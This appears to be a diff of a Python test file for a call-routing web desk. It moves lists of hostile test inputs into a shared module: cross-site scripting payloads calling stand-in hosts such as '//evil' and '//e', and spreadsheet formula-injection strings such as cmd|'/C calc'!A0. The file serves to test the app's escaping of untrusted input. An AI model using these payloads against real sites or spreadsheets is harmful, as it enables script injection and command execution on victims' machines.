@@ -11,47 +11,16 @@ import io
 import itertools
 from collections.abc import Iterator
 from dataclasses import replace
-from html.parser import HTMLParser
 from pathlib import Path
 from urllib.parse import quote
 
 import pytest
 from werkzeug.test import TestResponse
 
-from routing.journal.record import CallRecord, LegRecord, StepRecord
 from routing.model.desk import ALLOWED, Right, Role
 from support.desk_bed import NOW, OF_ROLE, DeskBed, DeskVisitor
-from support.desk_calls import call, record, talk
-
-SCRIPTS = (
-    "alert(1)", "window.x=1", "fetch('//evil')", "eval(name)", "import('//e')", "location='//e'", "top.x=1",
-    "document.title='x'",
-)  # fmt: skip
-FORMS = (
-    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>",
-    '"><script>{}</script>', "'><script>{}</script>",
-    '" onmouseover="{}', "' onfocus='{}' autofocus='", "javascript:{}", "</title><script>{}</script>",
-    "</textarea><script>{}</script>", "<a href=javascript:{}>x</a>", "<iframe srcdoc='<script>{}</script>'>",
-    "{{{{ {} }}}}", "{{% if {} %}}x{{% endif %}}", "${{{}}}", "<!--><script>{}</script>-->",
-    "&lt;script&gt;{}&lt;/script&gt;",
-    "<style>*{{background:url(//e)}}</style>{}", "<base href=//e>{}", "<meta http-equiv=refresh content=0;url=//e>{}",
-    "<form action=//e><input name=form_token>{}", "\u2028<script>{}</script>", "<details open ontoggle={}>",
-    "<math><mtext></table><img src=x onerror={}>", "<button hx-get=//e hx-trigger=load>{}",
-    "<div data-submits>{}</div>",
-)  # fmt: skip
-HOSTILE = [form.format(script) for form in FORMS for script in SCRIPTS]
-FORMULAS = [
-    f"{begin}{rest}"
-    for begin in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", "\uff0b", "'=", "=-+@")
-    for rest in (
-        "1+1",
-        "cmd|'/C calc'!A0",
-        'HYPERLINK("http://e","x")',
-        "SUM(1)*cmd|' /C x'!A0",
-        "IMPORTXML(//e)",
-        "A1",
-    )
-]
+from support.desk_calls import record, talk
+from support.hostile_pages import FORMULAS, HOSTILE, SCRIPTS, Elements, hostile_call
 
 
 @pytest.fixture
@@ -59,37 +28,6 @@ def bed(tmp_path: Path) -> Iterator[DeskBed]:
     bed = DeskBed(tmp_path)
     yield bed
     bed.close()
-
-
-class Elements(HTMLParser):
-    """A page's elements with the names of their attributes, and where it leads."""
-
-    def __init__(self, page: str) -> None:
-        super().__init__()
-        self.found: list[tuple[str, tuple[str, ...]]] = []
-        self.targets: list[str] = []
-        self.feed(page)
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        """An element."""
-        self.found.append((tag, tuple(name for name, _ in attrs)))
-        self.targets += [
-            value or "" for name, value in attrs if name in ("href", "src", "action", "hx-get", "data-peaks")
-        ]
-
-
-def hostile_call(text: str) -> CallRecord:
-    """A call with a text wherever somebody else than operations writes."""
-    word = "".join(text.split()) or "x"
-    step = StepRecord(1, word, word, word, NOW, 1.0, text, text, text, f"{text} {text}", 3.0, word)
-    legs = (LegRecord("leg", word, text, word, NOW, 3.0, True, 0.0, text, text),)
-    return call(
-        "one",
-    caller=text, client=text, number=text, dialled=text, schemes=(word,), release=text, status=text, cause=text,
-        ended_by=text, target=text, voicemail=text, recording=text, box=text, source={"utm_source": text, word: text},
-        entities={"name": text, word: text}, notify=(word,), tags=(word,), node=text, steps=(step,), legs=legs,
-        decision=text, verdict=text,
-    )  # fmt: skip
 
 
 def _pages(visitor: DeskVisitor, query: str = "") -> list[Elements]:
